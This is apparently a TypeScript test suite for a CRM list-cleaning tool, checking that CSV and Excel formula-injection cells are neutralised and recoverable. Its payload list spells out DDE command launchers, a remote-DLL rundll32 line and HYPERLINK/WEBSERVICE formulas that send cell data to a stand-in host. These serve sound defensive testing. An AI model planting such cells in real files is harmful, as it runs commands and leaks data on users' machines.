import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import exceljs from "exceljs";
import { describe, expect, test } from "vitest";
import { mk, t } from "../io/xlsx/mk.ts";
import { read, texts } from "../io/xlsx/read-bytes.ts";
import { tempFolder } from "../support/temp-folder.ts";
import { AS_OF, crm } from "./built.ts";

/** Cells that a spreadsheet runs, or that reach for a program, a file or the web; made by us. */
const PAYLOADS = [
  "=1+1",
  "=SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1-2-3",
  "-2+3+cmd|' /C notepad'!A0",
  '=HYPERLINK("http://example.test/?"&A1,"x")',
  '=WEBSERVICE("http://example.test/")',
  "=cmd|'/c rundll32.exe \\\\192.0.2.1\\x.dll,0'!_xlbgnm.A1",
  'DDE ("cmd";"/C calc";"!A0")A0',
  "\t=1+1",
  " =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＠SUM(1)",
  "|calc",
  "%0A=1+1",
  "'=1+1",
  "x\n=1+1",
  "\ufeff=1+1",
];

/** What must come through as it is. */
const HARMLESS = ["+84912345678", "-5", "-1.234,56", "a=1", "khách + vợ", "3-4 ngày"];

const NOTES = [...PAYLOADS, ...HARMLESS];

function cell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}

/** Whether a spreadsheet might run a line: a sign of a formula behind blanks, not a number or phone. */
function runs(text: string): boolean {
  return text.split(/[\r\n]/).some((line) => {
    const bare = line.replace(/^[\s\u00a0\ufeff\u200b]+/, "");
    if (/^\+[1-9]\d{6,14}$/.test(bare) || /^[+-]\d[\d.,]*$/.test(bare)) return false;
    return /^[=+\-@＝＋－＠]/.test(bare) || line.startsWith("\t");
  });
}

async function cleaned(
  name: string,
  bytes: Uint8Array | string,
  more: string[] = [],
): Promise<string> {
  const cwd = tempFolder();
  writeFileSync(join(cwd, name), bytes);
  const ended = await crm(["run", name, "-o", "out", "--as-of", AS_OF, ...more], { cwd });
  expect(ended).toMatchObject({ code: 0 });
  return join(cwd, "out");
}

const rows = NOTES.map((note, i) => [
  `K${100 + i}`,
  `Khách Số ${i}`,
  `09${10_000_001 + i * 37}`,
  note,
]);
const HEADER = ["Mã KH", "Họ tên", "Điện thoại", "Ghi chú"];
const csv = [HEADER, ...rows].map((row) => row.map(cell).join(",")).join("\r\n");

describe("a list full of formulas", () => {
  test("as CSV: no cell of any file starts a formula, and each can be had back", async () => {
    const out = await cleaned("list.csv", csv);
    for (const name of readdirSync(out).filter((file) => file.endsWith(".csv"))) {
      if (name.startsWith("original")) continue;
      const table = parse(readFileSync(join(out, name)), {
        bom: true,
        relax_column_count: true,
      }) as string[][];
      for (const row of table)
        for (const one of row) expect(runs(one), `${name}: ${one}`).toBe(false);
    }
    const [header = [], ...records] = parse(readFileSync(join(out, "cleaned.csv")), {
      bom: true,
    }) as string[][];
    const note = header.indexOf("Ghi chú");
    const back = records.map((row) => (row[note] ?? "").replace(/^'|(?<=[\r\n])'/g, ""));
    for (const one of NOTES) expect(back).toContain(one);
    for (const one of HARMLESS) expect(records.map((row) => row[note])).toContain(one);
    const phone = header.indexOf("Điện thoại");
    expect(records.every((row) => /^\+84\d{9}$/.test(row[phone] ?? ""))).toBe(true);
    const manifest = JSON.parse(readFileSync(join(out, "manifest.json"), "utf8")) as {
      counts: { neutralised: number };
    };
    expect(manifest.counts.neutralised).toBeGreaterThanOrEqual(PAYLOADS.filter(runs).length);
  });

  test("as a workbook: text stays text, formulas are values, nothing is a formula", async () => {
    const line = (row: readonly string[], i: number): string =>
      `<row r="${i + 1}">${row.map((text, c) => t("ABCD"[c] + String(i + 1), xml(text))).join("")}</row>`;
    const formula = `<row r="90">${t("A90", "K9")}${t("B90", "Lê Công Thức")}${t("C90", "0987654321")}<c r="D90" t="str"><f>cmd|"/c calc"!A0</f><v>=1+1</v></c></row>`;
    const sheet = [HEADER, ...rows].map(line).join("") + formula;
    const out = await cleaned("list.xlsx", mk({ rows: sheet }));
    const bytes = readFileSync(join(out, "cleaned.xlsx"));
    const [grid] = await read(bytes);
    if (grid === undefined) throw new Error("no sheet");
    const table = texts(grid);
    const note = table[0]?.indexOf("Ghi chú") ?? -1;
    const back = table.slice(1).map((row) => row[note]);
    for (const one of NOTES) expect(back).toContain(one);
    expect(back).toContain("=1+1");
    for (const name of ["cleaned.xlsx", "review.xlsx"]) {
      const book = new exceljs.Workbook();
      await book.xlsx.readFile(join(out, name));
      book.eachSheet((one) =>
        one.eachRow((row) =>
          row.eachCell((at) =>
            expect(at.type, `${name} ${at.address}`).not.toBe(exceljs.ValueType.Formula),
          ),
        ),
      );
    }
  });

  test("cleaning the cleaned file again adds no second mark", async () => {
    const once = await cleaned("list.csv", csv);
    const first = readFileSync(join(once, "cleaned.csv"));
    const twice = await cleaned("list.csv", first);
    const notes = (path: string): string[] => {
      const [header = [], ...records] = parse(readFileSync(path), { bom: true }) as string[][];
      return records.map((row) => row[header.indexOf("Ghi chú")] ?? "").toSorted();
    };
    expect(notes(join(twice, "cleaned.csv"))).toEqual(notes(join(once, "cleaned.csv")));
  });
});

function xml(text: string): string {
  return text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll("\n", "&#10;");
}
